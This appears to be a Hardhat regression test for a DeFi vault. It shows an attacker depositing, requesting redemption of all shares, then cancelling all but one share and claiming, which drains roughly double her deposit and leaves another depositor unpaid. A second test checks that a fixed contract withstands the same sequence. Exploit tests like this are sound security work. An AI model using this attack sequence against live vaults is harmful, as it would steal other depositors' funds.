import { expect } from "chai";
import { network } from "hardhat";

const usdc = (amount: number) => BigInt(amount) * 10n ** 6n;

async function attack(name: "NoticeVault" | "NoticeVaultFixed") {
  const { viem } = await network.create();
  const clock = await viem.getTestClient();
  const [, alice, bob, mallory] = await viem.getWalletClients();
  const token = await viem.deployContract("NoticeVaultUsdc");
  const vault = await viem.deployContract(name, [token.address]);
  for (const [{ account }, amount] of [
    [alice, usdc(1_900_000)],
    [bob, usdc(1_100_000)],
    [mallory, usdc(400_000)],
  ] as const) {
    await token.write.mint([account.address, amount]);
    await token.write.approve([vault.address, amount], { account });
    if (account !== mallory.account) await vault.write.deposit([amount], { account });
  }
  await vault.write.requestRedeem([usdc(450_000)], { account: bob.account });
  expect(await vault.read.invariant_solvent()).to.equal(true);

  const { account } = mallory;
  await vault.write.deposit([usdc(400_000)], { account });
  const shares = await vault.read.balanceOf([account.address]);
  await vault.write.requestRedeem([shares], { account });
  await vault.write.cancelRedeem([1n, shares - 1n], { account });
  const solvent = await vault.read.invariant_solvent();

  await clock.increaseTime({ seconds: 3 * 86_400 });
  await vault.write.claim([1n], { account });
  const remaining = await vault.read.balanceOf([account.address]);
  return {
    solvent,
    owns: (await token.read.balanceOf([account.address])) + (await vault.read.convertToAssets([remaining])),
    bobIsPaid: await vault.simulate.claim([0n], { account: bob.account.address }).then(
      () => true,
      () => false,
    ),
  };
}

describe("NoticeVault", () => {
  it("breaks", async () => {
    const { solvent, owns, bobIsPaid } = await attack("NoticeVault");
    expect(solvent).to.equal(false);
    expect(Number(owns)).to.be.greaterThan(Number(usdc(790_000)));
    expect(bobIsPaid).to.equal(false);
  });

  it("holds once fixed", async () => {
    const { solvent, owns, bobIsPaid } = await attack("NoticeVaultFixed");
    expect(solvent).to.equal(true);
    expect(Number(owns)).to.be.at.most(Number(usdc(400_000)));
    expect(bobIsPaid).to.equal(true);
  });
});
